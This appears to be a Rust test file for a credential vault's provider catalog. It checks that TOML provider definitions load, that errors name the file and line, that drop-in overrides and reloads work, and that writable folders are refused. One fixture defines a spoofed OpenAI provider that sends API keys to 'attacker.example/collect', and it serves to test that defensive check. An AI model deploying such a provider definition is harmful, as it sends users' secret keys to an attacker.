//! The provider catalog: every bundled file loads; malformed files, unknown handler types and
//! duplicate names are errors naming the file and line while the other providers stay
//! usable; a drop-in folder adds and overrides providers and reloads without a restart.

use std::collections::BTreeMap;
use std::path::Path;
use std::sync::Arc;

use strongroom::catalog::{bundled_files, Catalog, CatalogProblem};
use strongroom::handlers::HandlerRegistry;
use strongroom::{LocalKey, MemoryStore, NewCredential, Principal, Scope, SecretString, Vault};

/// The providers the issue names, plus the three integrations.
const EXPECTED: &[&str] = &[
    "anthropic",
    "aws",
    "azure_openai",
    "deepseek",
    "discord_oauth",
    "gcp",
    "github_app",
    "github_copilot",
    "github_oauth",
    "github_pat",
    "gitlab",
    "google_oauth",
    "mockprovider",
    "mongodb",
    "notion",
    "openai",
    "postgres",
    "redis",
    "slack_oauth",
    "stripe",
    "telegram",
];

fn write(dir: &Path, file: &str, text: &str) {
    std::fs::write(dir.join(file), text).expect("write provider file");
}

fn problem_in<'a>(problems: &'a [CatalogProblem], file: &str) -> &'a CatalogProblem {
    problems
        .iter()
        .find(|p| p.file.ends_with(file))
        .unwrap_or_else(|| panic!("no problem reported for {file}: {problems:?}"))
}

const GOOD: &str = r#"
[provider]
name = "acme"
display_name = "Acme"
handler_type = "api_key"
category = "testing"

[[fields]]
name = "api_key"
label = "Acme key"
prefix_check = "acme_"
required = true
"#;

#[test]
fn every_bundled_provider_file_loads_without_problems() {
    let registry = HandlerRegistry::builtin();
    let catalog = Catalog::bundled(&registry);
    assert!(
        catalog.problems().is_empty(),
        "bundled problems: {:?}",
        catalog.problems()
    );
    let names: Vec<&str> = catalog.providers().map(|p| p.name.as_str()).collect();
    assert_eq!(names, EXPECTED);
    // One file per provider, named after it, in the crate's providers/ folder too.
    let files: Vec<&str> = bundled_files().collect();
    assert_eq!(files.len(), EXPECTED.len());
    for provider in catalog.providers() {
        assert_eq!(provider.source, format!("bundled:{}.toml", provider.name));
        assert!(registry.get(&provider.handler_type).is_some());
        assert!(!provider.display_name.is_empty());
        let on_disk = Path::new(env!("CARGO_MANIFEST_DIR"))
            .join("providers")
            .join(format!("{}.toml", provider.name));
        assert!(on_disk.is_file(), "{} has no file", provider.name);
        if let Some(verify) = &provider.verify {
            assert!(
                verify.endpoint.starts_with("https://") || verify.endpoint.starts_with('{'),
                "{}: a real provider is verified over https (or at the credential's own URL)",
                provider.name
            );
        }
        // Prefix checks are prefixes: short, no length rules hidden in them.
        for field in &provider.fields {
            for prefix in &field.prefix_check {
                assert!(prefix.len() <= 16, "{}: {prefix}", provider.name);
            }
        }
    }
    // The same files load from the folder as a drop-in, with no problems either.
    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("providers");
    let loaded = Catalog::load(&registry, Some(&dir)).expect("load the folder");
    assert!(loaded.problems().is_empty(), "{:?}", loaded.problems());
    assert_eq!(loaded.providers().count(), EXPECTED.len());
}

#[test]
fn malformed_toml_names_the_file_and_line_and_the_rest_stay_usable() {
    let registry = HandlerRegistry::builtin();
    let dir = tempfile::tempdir().expect("tempdir");
    write(dir.path(), "acme.toml", GOOD);
    // Line 4 has an unterminated string.
    write(
        dir.path(),
        "broken.toml",
        "[provider]\nname = \"broken\"\ndisplay_name = \"Broken\"\nhandler_type = \"api_key\nicon = \"x\"\n",
    );
    let catalog = Catalog::load(&registry, Some(dir.path())).expect("load");
    let p = problem_in(catalog.problems(), "broken.toml");
    assert_eq!(p.line, 4, "{p}");
    assert!(p.to_string().contains("broken.toml:4:"), "{p}");
    assert!(catalog.get("broken").is_none());
    assert!(catalog.get("acme").is_some(), "the good file still loads");
    assert!(catalog.get("openai").is_some(), "bundled providers stay");
}

#[test]
fn an_unknown_handler_type_names_the_file_line_and_the_known_types() {
    let registry = HandlerRegistry::builtin();
    let dir = tempfile::tempdir().expect("tempdir");
    write(
        dir.path(),
        "weird.toml",
        "[provider]\nname = \"weird\"\ndisplay_name = \"Weird\"\n\nhandler_type = \"api_keys\"\n",
    );
    let catalog = Catalog::load(&registry, Some(dir.path())).expect("load");
    let p = problem_in(catalog.problems(), "weird.toml");
    assert_eq!((p.line, p.column), (5, 16), "{p}");
    assert!(p.message.contains("unknown handler type `api_keys`"), "{p}");
    assert!(p.message.contains("api_key,"), "lists the known types: {p}");
}

#[test]
fn a_duplicate_name_in_the_folder_names_the_second_file_and_line() {
    let registry = HandlerRegistry::builtin();
    let dir = tempfile::tempdir().expect("tempdir");
    write(dir.path(), "a_acme.toml", GOOD);
    write(
        dir.path(),
        "b_acme_again.toml",
        &GOOD.replace("display_name = \"Acme\"", "display_name = \"Acme 2\""),
    );
    let catalog = Catalog::load(&registry, Some(dir.path())).expect("load");
    let p = problem_in(catalog.problems(), "b_acme_again.toml");
    assert_eq!(p.line, 3, "{p}");
    assert!(p.message.contains("already defined"), "{p}");
    assert_eq!(catalog.get("acme").expect("acme").display_name, "Acme");
}

#[test]
fn other_mistakes_are_named_with_their_line() {
    let registry = HandlerRegistry::builtin();
    let cases: &[(&str, &str, usize, &str)] = &[
        (
            "typo.toml",
            "[provider]\nname = \"t\"\ndisplay_name = \"T\"\nhandler_type = \"api_key\"\n\n[[fields]]\nname = \"api_key\"\nprefx_check = \"t_\"\n",
            8,
            "prefx_check",
        ),
        (
            "nofield.toml",
            "[provider]\nname = \"t\"\ndisplay_name = \"T\"\nhandler_type = \"api_key\"\n\n[[fields]]\nname = \"password\"\n",
            6,
            "not a field of handler type `api_key`",
        ),
        (
            "emptyprefix.toml",
            "[provider]\nname = \"t\"\ndisplay_name = \"T\"\nhandler_type = \"api_key\"\n\n[[fields]]\nname = \"api_key\"\nprefix_check = \"\"\n",
            8,
            "prefix_check",
        ),
        (
            "placeholder.toml",
            "[provider]\nname = \"t\"\ndisplay_name = \"T\"\nhandler_type = \"api_key\"\n\n[verify]\nendpoint = \"https://api.example.com/me\"\nauth_template = \"Authorization: Bearer {token}\"\n",
            8,
            "placeholder `{token}`",
        ),
        (
            "codes.toml",
            "[provider]\nname = \"t\"\ndisplay_name = \"T\"\nhandler_type = \"api_key\"\n\n[verify]\nendpoint = \"https://api.example.com/me\"\nsuccess_codes = [200, 700]\n",
            8,
            "success_codes",
        ),
        (
            "scheme.toml",
            "[provider]\nname = \"t\"\ndisplay_name = \"T\"\nhandler_type = \"api_key\"\n\n[verify]\nendpoint = \"ftp://api.example.com/me\"\n",
            7,
            "http or https",
        ),
        (
            "method.toml",
            "[provider]\nname = \"t\"\ndisplay_name = \"T\"\nhandler_type = \"api_key\"\n\n[verify]\nendpoint = \"https://api.example.com/me\"\nmethod = \"DELETE\"\n",
            8,
            "GET, POST or HEAD",
        ),
        (
            "plainhttp.toml",
            "[provider]\nname = \"t\"\ndisplay_name = \"T\"\nhandler_type = \"api_key\"\n\n[verify]\nendpoint = \"http://api.example.com/me\"\n",
            7,
            "must be an https URL",
        ),
        (
            "keyinquery.toml",
            "[provider]\nname = \"t\"\ndisplay_name = \"T\"\nhandler_type = \"api_key\"\n\n[verify]\nendpoint = \"https://api.example.com/me?key={api_key}\"\n",
            7,
            "secret field `api_key` in the URL",
        ),
        (
            "badname.toml",
            "[provider]\nname = \"has space\"\ndisplay_name = \"T\"\nhandler_type = \"api_key\"\n",
            2,
            "lowercase ASCII",
        ),
        (
            "noname.toml",
            "[provider]\ndisplay_name = \"T\"\nhandler_type = \"api_key\"\n",
            1,
            "name",
        ),
    ];
    for (file, text, line, needle) in cases {
        let dir = tempfile::tempdir().expect("tempdir");
        write(dir.path(), file, text);
        let catalog = Catalog::load(&registry, Some(dir.path())).expect("load");
        let p = problem_in(catalog.problems(), file);
        assert_eq!(p.line, *line, "{file}: {p}");
        assert!(p.message.contains(needle), "{file}: {p}");
        assert!(catalog.get("t").is_none(), "{file} must not load");
        assert_eq!(
            catalog.providers().count(),
            EXPECTED.len(),
            "{file}: the bundled providers stay"
        );
    }
}

#[test]
fn a_missing_folder_is_an_error_that_names_it() {
    let registry = HandlerRegistry::builtin();
    let err = Catalog::load(&registry, Some(Path::new("/nonexistent/providers-dir")))
        .expect_err("missing folder");
    assert!(
        err.to_string().contains("/nonexistent/providers-dir"),
        "{err}"
    );
}

fn admin() -> Principal {
    Principal::parse("system_admin:root").expect("principal")
}

fn key(value: &str) -> BTreeMap<String, SecretString> {
    BTreeMap::from([("api_key".to_string(), SecretString::from(value.to_string()))])
}

async fn vault_on(dir: &Path) -> Vault {
    Vault::builder()
        .store(Arc::new(MemoryStore::new()))
        .key_wrapper(Arc::new(LocalKey::generate().expect("key")))
        .providers_dir(dir)
        .build()
        .await
        .expect("vault")
}

#[tokio::test]
async fn the_folder_adds_and_overrides_providers_and_reloads_without_a_restart() {
    let dir = tempfile::tempdir().expect("tempdir");
    let vault = vault_on(dir.path()).await;
    assert!(vault.provider("acme").is_err());
    let err = vault
        .create(
            &admin(),
            NewCredential::new("k", Scope::SystemWide, "acme", "", key("acme_1")),
        )
        .await
        .expect_err("unknown provider");
    assert!(err.to_string().contains("`acme`"), "{err}");

    // Add a provider and override a bundled one, then reload.
    write(dir.path(), "acme.toml", GOOD);
    write(
        dir.path(),
        "openai.toml",
        "[provider]\nname = \"openai\"\ndisplay_name = \"OpenAI (proxy)\"\nhandler_type = \"api_key\"\n\n[[fields]]\nname = \"api_key\"\nprefix_check = \"proxy-\"\n",
    );
    let problems = vault.reload_providers().expect("reload");
    assert!(problems.is_empty(), "{problems:?}");
    assert_eq!(vault.provider("acme").expect("acme").display_name, "Acme");
    assert_eq!(
        vault.provider("openai").expect("openai").display_name,
        "OpenAI (proxy)"
    );
    // The new prefix check applies at once.
    let err = vault
        .create(
            &admin(),
            NewCredential::new("bad", Scope::SystemWide, "acme", "", key("nope_1")),
        )
        .await
        .expect_err("prefix check");
    assert!(err.to_string().contains("`acme_`"), "{err}");
    assert!(!err.to_string().contains("nope_1"), "value echoed: {err}");
    vault
        .create(
            &admin(),
            NewCredential::new("good", Scope::SystemWide, "acme", "", key("acme_1")),
        )
        .await
        .expect("create with the new provider");
    vault
        .create(
            &admin(),
            NewCredential::new("oai", Scope::SystemWide, "openai", "", key("proxy-1")),
        )
        .await
        .expect("the overridden prefix check");

    // Break the acme file: the reload reports it, and acme keeps its last good definition.
    write(dir.path(), "acme.toml", "[provider\nname = 1\n");
    let problems = vault.reload_providers().expect("reload");
    assert_eq!(problems.len(), 1, "{problems:?}");
    assert!(problems[0].file.ends_with("acme.toml"));
    assert_eq!(problems[0].line, 1);
    assert!(
        problems[0]
            .message
            .contains("previous definition of `acme`"),
        "{}",
        problems[0]
    );
    assert!(vault.provider("acme").is_ok(), "acme stays usable");
    assert!(vault.provider("openai").is_ok());

    // Remove the override: the bundled openai comes back.
    std::fs::remove_file(dir.path().join("openai.toml")).expect("rm");
    std::fs::remove_file(dir.path().join("acme.toml")).expect("rm");
    assert!(vault.reload_providers().expect("reload").is_empty());
    assert_eq!(
        vault.provider("openai").expect("openai").source,
        "bundled:openai.toml"
    );
    assert!(vault.provider("acme").is_err(), "a removed file removes it");

    // A folder that has gone is an error, and the catalog stays as it was.
    let path = dir.path().to_path_buf();
    drop(dir);
    assert!(!path.exists());
    let err = vault.reload_providers().expect_err("folder gone");
    assert!(
        err.to_string().contains(&path.display().to_string()),
        "{err}"
    );
    assert!(vault.provider("openai").is_ok());
}

#[test]
fn loopback_http_and_a_declared_secret_in_url_are_allowed() {
    let registry = HandlerRegistry::builtin();
    let dir = tempfile::tempdir().expect("tempdir");
    write(
        dir.path(),
        "local.toml",
        "[provider]\nname = \"local\"\ndisplay_name = \"L\"\nhandler_type = \"api_key\"\n\n[verify]\nendpoint = \"http://127.0.0.1:8080/me\"\nauth_template = \"Authorization: Bearer {api_key}\"\n",
    );
    write(
        dir.path(),
        "inpath.toml",
        "[provider]\nname = \"inpath\"\ndisplay_name = \"P\"\nhandler_type = \"bearer_token\"\n\n[verify]\nendpoint = \"https://api.example.com/bot{token}/me\"\nsecret_in_url = true\n",
    );
    let catalog = Catalog::load(&registry, Some(dir.path())).expect("load");
    assert!(catalog.problems().is_empty(), "{:?}", catalog.problems());
    assert!(catalog.get("local").is_some());
    let inpath = catalog.get("inpath").expect("inpath");
    assert!(inpath.verify.as_ref().expect("verify").secret_in_url);
    assert_eq!(catalog.overrides().count(), 0, "adding is not overriding");
    // Telegram's bundled file says so too.
    let bundled = Catalog::bundled(&registry);
    assert!(
        bundled
            .get("telegram")
            .expect("telegram")
            .verify
            .as_ref()
            .expect("v")
            .secret_in_url
    );
    assert!(
        !bundled
            .get("openai")
            .expect("openai")
            .verify
            .as_ref()
            .expect("v")
            .secret_in_url
    );
}

#[cfg(unix)]
#[test]
fn a_folder_or_file_others_may_write_is_refused() {
    use std::os::unix::fs::PermissionsExt;
    let registry = HandlerRegistry::builtin();
    let dir = tempfile::tempdir().expect("tempdir");
    let folder = dir.path().join("providers");
    std::fs::create_dir(&folder).expect("mkdir");
    write(
        &folder,
        "openai.toml",
        "[provider]\nname = \"openai\"\ndisplay_name = \"Not OpenAI\"\nhandler_type = \"api_key\"\n\n[verify]\nendpoint = \"https://attacker.example/collect\"\nauth_template = \"Authorization: Bearer {api_key}\"\n",
    );
    let chmod = |path: &Path, mode: u32| {
        std::fs::set_permissions(path, std::fs::Permissions::from_mode(mode)).expect("chmod")
    };
    chmod(&folder, 0o777);
    let err = Catalog::load(&registry, Some(&folder)).expect_err("world-writable folder");
    assert!(
        err.to_string().contains("group or others can write it"),
        "{err}"
    );
    assert!(err.to_string().contains("chmod go-w"), "{err}");
    chmod(&folder, 0o775);
    assert!(
        Catalog::load(&registry, Some(&folder)).is_err(),
        "group-writable too"
    );
    chmod(&folder, 0o755);
    chmod(&folder.join("openai.toml"), 0o666);
    let catalog = Catalog::load(&registry, Some(&folder)).expect("load");
    let p = problem_in(catalog.problems(), "openai.toml");
    assert!(p.message.contains("group or others can write it"), "{p}");
    assert_eq!(
        catalog.get("openai").expect("openai").source,
        "bundled:openai.toml",
        "the refused file overrides nothing"
    );
    assert_eq!(catalog.overrides().count(), 0);
    // Made private, the file loads and is reported as an override.
    chmod(&folder.join("openai.toml"), 0o644);
    let catalog = Catalog::load(&registry, Some(&folder)).expect("load");
    assert!(catalog.problems().is_empty(), "{:?}", catalog.problems());
    let overrides: Vec<&str> = catalog.overrides().map(|p| p.name.as_str()).collect();
    assert_eq!(overrides, ["openai"]);
}
